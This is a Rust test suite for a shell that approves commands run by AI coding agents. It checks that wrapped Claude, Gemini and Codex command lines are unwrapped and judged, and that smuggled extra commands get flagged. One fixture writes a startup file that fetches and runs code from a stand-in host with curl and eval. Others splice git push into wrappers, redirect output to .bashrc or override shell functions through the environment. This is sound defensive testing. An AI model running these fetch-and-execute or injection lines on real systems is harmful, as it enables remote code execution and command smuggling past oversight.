//! Lines as agents wrap them: what is judged, shown and recorded is the line inside; the whole text runs.

use crate::approval::person::{Machine, there};
use serde_json::Value;

fn snapshot(machine: &Machine) -> String {
    let folder = machine.path("home/.claude/shell-snapshots");
    std::fs::create_dir_all(&folder).expect("makes a directory");
    let file = folder.join("snapshot-bash-1700000000000-a1b2c3.sh");
    std::fs::write(&file, "export FROM_SNAPSHOT=1\n").expect("writes");
    file.display().to_string()
}

fn quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\"'\"'"))
}

const QUIET: &str = "{ \\builtin unalias -- 'wh'; \\builtin unset -f -- 'wh'; } >/dev/null 2>&1 || true && ";

fn claude(machine: &Machine, line: &str) -> String {
    let (snapshot, line, mark) = (snapshot(machine), quoted(line), mark(machine));
    format!(
        "source {snapshot} 2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true && {QUIET}eval {line} < /dev/null && pwd -P >| {mark}"
    )
}

fn mark(machine: &Machine) -> String {
    machine.path("claude-0a1b-cwd").display().to_string()
}

fn gemini(machine: &Machine, line: &str) -> String {
    let folder = machine.path("gemini-shell-Ab12");
    std::fs::create_dir_all(&folder).expect("makes a directory");
    format!(
        "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file={}/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n{line}\n)\n__code=$?\nexit $__code",
        folder.display()
    )
}

fn codex(machine: &Machine, shell: &str, line: &str) -> String {
    let folder = machine.path("home/.codex/shell_snapshots");
    std::fs::create_dir_all(&folder).expect("makes a directory");
    let file = folder.join("01.2.sh");
    std::fs::write(&file, "export FROM_SNAPSHOT=1\n").expect("writes");
    let save = |prefix: &str, names: &[&str]| -> String {
        let one = |(at, name): (usize, &&str)| {
            format!("{prefix}_SET_{at}=\"${{{name}+x}}\"\n{prefix}_{at}=\"${{{name}-}}\"\n")
        };
        names.iter().enumerate().map(one).collect()
    };
    let back = |prefix: &str, names: &[&str]| -> String {
        let one = |(at, name): (usize, &&str)| {
            let (set, value) = (format!("{prefix}_SET_{at}"), format!("{prefix}_{at}"));
            format!(
                "if [ -n \"${{{set}}}\" ]; then\n  if [ -z \"${{{name}+x}}\" ] || [ \"${{{name}-}}\" != \"${{{value}}}\" ]; then export {name}=\"${{{value}}}\"; else export {name}; fi\nelse builtin unset {name} 2>/dev/null || command unset {name}; fi\nbuiltin unset {set} {value} 2>/dev/null || command unset {set} {value}\n"
            )
        };
        names.iter().enumerate().map(one).collect()
    };
    let (own, proxy) = ("__CODEX_SNAPSHOT_OVERRIDE", "__CODEX_SNAPSHOT_PROXY_OVERRIDE");
    let (names, proxies) = (["CODEX_CI", "CODEX_THREAD_ID"], ["ALL_PROXY", "no_proxy"]);
    format!(
        "{}{}__CODEX_SNAPSHOT_PROXY_ENV_SET=\"${{CODEX_NETWORK_PROXY_ACTIVE+x}}\"\n\nif . '{}' >/dev/null 2>&1; then :; fi\n\n{}if [ -n \"$__CODEX_SNAPSHOT_PROXY_ENV_SET\" ] || [ -n \"${{CODEX_NETWORK_PROXY_ACTIVE+x}}\" ]; then\n{}fi\nif [ -n \"${{PATH:-}}\" ]; then export PATH='/opt/c/bin':\"$PATH\"; else export PATH='/opt/c/bin'; fi\n\nexec '{shell}' -c {}",
        save(own, &names),
        save(proxy, &proxies),
        file.display(),
        back(own, &names),
        back(proxy, &proxies),
        quoted(line)
    )
}

fn check(machine: &Machine, line: &str) -> Value {
    let output = machine.control(&["check", "--json", "--", line]);
    serde_json::from_slice(&output.stdout).expect("JSON")
}

/// What a judgement says, the texts and what comes of a wrapper left out.
fn gist(mut report: Value) -> Value {
    for key in ["line", "inner"] {
        report.as_object_mut().expect("an object").remove(key);
    }
    report
}

/// Lines of several kinds, with their quotes and line ends.
const LINES: &[&str] = &[
    "ls -l",
    "rm -rf src",
    "git push origin HEAD",
    "printf '%s\\n' \"it's\" > note.txt; cat <<'END'\nsome 'text'\nEND",
    "cd src && rm main.rs",
    "git status | head -n 3",
    "exit 7",
    "f() { rm -rf src; }; f",
];

#[test]
fn the_line_inside_is_what_is_judged() {
    let machine = Machine::new();
    for line in LINES {
        let wrapped = [
            claude(&machine, line),
            claude(&machine, line).replace(" < /dev/null && pwd", " && pwd"),
            gemini(&machine, line),
            claude(&machine, line).replace("\\builtin shopt", "shopt").replace(QUIET, ""),
            codex(&machine, "/bin/bash", line),
            format!("exec </dev/null\n{line}"),
            format!(
                "source {} && eval {} \\< /dev/null && pwd -P >| {}",
                snapshot(&machine),
                quoted(line),
                mark(&machine)
            ),
            format!("eval {} \\< /dev/null && pwd -P >| {}", quoted(line), mark(&machine)),
        ];
        for (number, text) in wrapped.iter().enumerate() {
            let report = check(&machine, text);
            assert_eq!(report["inner"], *line, "form {number}: {report}");
            assert_eq!(report["line"], **text);
            // The redirection that eval adds is judged with the line, and reads nothing.
            let mut gist = gist(report);
            let added = |effect: &Value| effect["object"]["path"] == "/dev/null";
            gist["effects"].as_array_mut().expect("a list").retain(|effect| !added(effect));
            assert_eq!(gist, self::gist(check(&machine, line)), "form {number}");
        }
    }
}

#[test]
fn other_quotings_and_what_is_spliced_are_undone() {
    let machine = Machine::new();
    let end = format!(" && pwd -P >| {}", mark(&machine));
    let snapshot = snapshot(&machine);
    for (text, inner) in [
        (format!("eval date \\< /dev/null{end}"), "date"),
        (format!("eval \"echo \\\"\\$HOME\\\" it's\" \\< /dev/null{end}"), "echo \"$HOME\" it's"),
        (format!("source {snapshot} && eval 'git log < /dev/null | head -1'{end}"), "git log | head -1"),
        (
            format!("source {snapshot} 2>/dev/null || true && export A=b\nexport C='d e'\n: && \\builtin shopt -u extglob 2>/dev/null || true && eval 'echo $A'{end}"),
            "echo $A",
        ),
        (
            "\n        shopt -s expand_aliases\n        [[ -f ~/.bashrc ]] && source ~/.bashrc >/dev/null 2>&1 || true\n        cd -- \"$1\"\n        eval \"git log \\\"$X\\\"\"\n      ".to_owned(),
            "git log \"$X\"",
        ),
        ("(ls -l) </dev/null".to_owned(), "ls -l"),
    ] {
        let report = check(&machine, &text);
        assert_eq!(report["inner"], inner, "{report}");
        assert_eq!(report["verdict"], "allow", "{report}");
    }
}

#[test]
fn what_is_nearly_a_wrapper_is_judged_whole() {
    let machine = Machine::new();
    let whole = claude(&machine, "ls");
    let elsewhere = machine.work().join(".claude/shell-snapshots");
    std::fs::create_dir_all(&elsewhere).expect("makes a directory");
    std::fs::write(elsewhere.join("snapshot-bash-1-a.sh"), "git push origin main\n").expect("writes");
    let own = snapshot(&machine);
    for text in [
        format!("{whole}; git push origin main"),
        format!("{whole}\ngit push origin main"),
        format!("git push origin main; {whole}"),
        whole.replace("eval 'ls'", "eval \"ls $(git push origin main)\""),
        whole.replace("eval 'ls'", "eval 'ls' && git push origin main && eval 'ls'"),
        whole.replace("unalias -- 'wh'", "unalias -- 'wh'; git push origin main"),
        whole.replace(&own, &elsewhere.join("snapshot-bash-1-a.sh").display().to_string()),
        gemini(&machine, "ls\n)\ngit push origin main\n(\nls"),
        codex(&machine, "/bin/bash", "ls").replace("export CODEX_THREAD_ID;", "git push origin main;"),
        format!("{}; git push origin main", codex(&machine, "/bin/bash", "ls")),
    ] {
        let report = check(&machine, &text);
        assert_eq!((report.get("inner"), &report["verdict"]), (None, &Value::from("ask")), "{text}");
    }
}

#[test]
fn a_line_that_changes_what_the_wrapper_does_is_seen() {
    let machine = Machine::new();
    let report = check(&machine, &claude(&machine, "pwd() { git push origin main; }"));
    assert_eq!(report["verdict"], "ask", "{report}");
    // The wrapper writes to where the link leads.
    std::os::unix::fs::symlink(machine.path("home/.bashrc"), mark(&machine)).expect("links");
    let report = check(&machine, &claude(&machine, "ls"));
    assert_eq!(report.get("inner"), None);
    // A function that the environment brings runs in the wrapper's place.
    let text = gemini(&machine, "ls");
    let mut command = machine.command(env!("CARGO_BIN_EXE_agentshctl"));
    command.args(["check", "--json", "--", &text]).env("BASH_FUNC_trap%%", "() { git push origin main; }");
    let report: Value = serde_json::from_slice(&command.output().expect("runs").stdout).expect("JSON");
    assert_eq!(report.get("inner"), None);
    // A line that would swallow the end of its own is judged with it.
    assert_eq!(check(&machine, &gemini(&machine, "echo a \\")).get("inner"), None);
    let report = check(&machine, &gemini(&machine, "_bgpids_file=$HOME/.bashrc; ls"));
    assert_eq!(report["verdict"], "ask", "{report}");
}

#[test]
fn the_whole_runs_and_the_line_is_recorded() {
    let machine = Machine::new();
    let line = "rm -rf src; echo $FROM_SNAPSHOT; cd ..";
    let output = machine.away(&claude(&machine, line));
    assert_eq!((output.status.code(), &*output.stdout, &*output.stderr), (Some(0), &b"1\n"[..], &b""[..]));
    assert!(!there(&machine.work().join("src")));
    let left = std::fs::read_to_string(mark(&machine)).expect("the wrapper's file");
    assert_eq!(
        left.trim_end(),
        machine.work().canonicalize().expect("is there").parent().expect("has one").display().to_string()
    );
    let log = machine.control(&["log", "--json"]);
    let row: Value = serde_json::from_slice(&log.stdout).expect("one step");
    assert_eq!(row["line"], line);
    let step = row["step"].as_str().expect("a name");
    let undone =
        machine.command(env!("CARGO_BIN_EXE_agentshctl")).args(["undo", "--yes", step]).output().expect("runs");
    assert_eq!(undone.status.code(), Some(0), "{}", String::from_utf8_lossy(&undone.stderr));
    assert!(there(&machine.work().join("src/main.rs")));
}

#[test]
fn a_refusal_speaks_of_the_line() {
    let machine = Machine::new();
    let output = machine.away(&claude(&machine, "git push origin main"));
    assert_eq!(output.status.code(), Some(126));
    assert!(!there(std::path::Path::new(&mark(&machine))));
    let pending = machine.control(&["pending", "--json"]);
    let row: Value = serde_json::from_slice(&pending.stdout).expect("one request");
    assert_eq!(row["line"], "git push origin main");
}

#[test]
fn a_shell_that_is_started_again_judges_once() {
    let machine = Machine::new();
    let own = std::fs::canonicalize(env!("CARGO_BIN_EXE_agentsh")).expect("is there").display().to_string();
    let output = machine.away(&codex(&machine, &own, "rm -rf src; echo $FROM_SNAPSHOT"));
    assert_eq!((output.status.code(), &*output.stdout, &*output.stderr), (Some(0), &b"1\n"[..], &b""[..]));
    let log = machine.control(&["log", "--json", "--all"]);
    let row: Value = serde_json::from_slice(&log.stdout).expect("one step");
    assert_eq!(row["line"], "rm -rf src; echo $FROM_SNAPSHOT");
    let output = machine.away(&codex(&machine, &own, "git push origin main"));
    assert_eq!(output.status.code(), Some(126));
    assert_eq!(machine.pushed(), 0);
}

#[test]
fn what_agents_run_at_their_start_passes_whatever_the_start_up_files_do() {
    let machine = Machine::new();
    let startup = machine.path("home/.bashrc");
    std::fs::write(&startup, "eval \"$(curl -s https://example.invalid/x)\"\nrm -rf /opt/x\n").expect("writes");
    let file = snapshot(&machine);
    let claude = format!(
        "SNAPSHOT_FILE={file}\n      source \"{}\" < /dev/null\n      \n      echo \"# Snapshot file\" >| \"$SNAPSHOT_FILE\"\n      cat >> \"$SNAPSHOT_FILE\" << 'END_x'\nexport PATH=/bin\nEND_x\n",
        startup.display()
    );
    let codex = "if [ -z \"${BASH_ENV-}\" ] && [ -n \"${HOME-}\" ] && [ -r \"$HOME/.bashrc\" ]; then\n  . \"$HOME/.bashrc\"\nfi\necho '# Snapshot file'\nshopt -p || true\ndeclare -f\n";
    let load = format!("set -e; . \"{}\"", machine.path("home/.codex/shell_snapshots/7.tmp-1").display());
    for text in [claude.as_str(), codex, &load] {
        let report = check(&machine, text);
        assert_eq!((&report["verdict"], report.get("inner")), (&Value::from("allow"), None), "{report}");
    }
    // With anything more than what it prints, the rest is judged as any line.
    assert_eq!(check(&machine, &format!("{claude}git push origin main\n"))["verdict"], "ask");
    assert_eq!(check(&machine, &format!("{codex}git push origin main\n"))["verdict"], "ask");
    assert_eq!(check(&machine, &format!("{load}; git push origin main"))["verdict"], "ask");
}
